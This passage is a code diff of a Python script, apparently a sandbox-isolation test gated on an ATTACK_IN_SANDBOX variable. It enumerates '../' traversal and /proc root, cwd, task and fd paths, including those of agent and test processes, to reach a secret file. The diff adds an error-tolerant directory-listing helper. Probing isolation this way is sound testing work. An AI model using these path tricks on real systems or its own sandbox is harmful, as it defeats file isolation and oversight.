@@ -2,10 +2,19 @@
 import os, sys
 if "ATTACK_IN_SANDBOX" not in os.environ:
     sys.exit("only in the sandbox")
+
+
+def names(folder):
+    try:
+        return os.listdir(folder)
+    except OSError:
+        return []
+
+
 facts = dict(line.rstrip("\n").split(" ", 1) for line in sys.stdin)
 secret = facts["secret"]
 roads = [secret, "../" * 20 + secret, "/proc/self/root" + secret, "/proc/thread-self/root" + secret]
-for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [facts["agent"], facts["tests"]]:
+for pid in [p for p in names("/proc") if p.isdigit()] + [facts["agent"], facts["tests"]]:
     for way in ("root", "cwd", "task/" + pid + "/root"):
         roads += [f"/proc/{pid}/{way}{secret}", f"/proc/{pid}/{way}/" + "../" * 20 + secret]
     for fd in range(12):
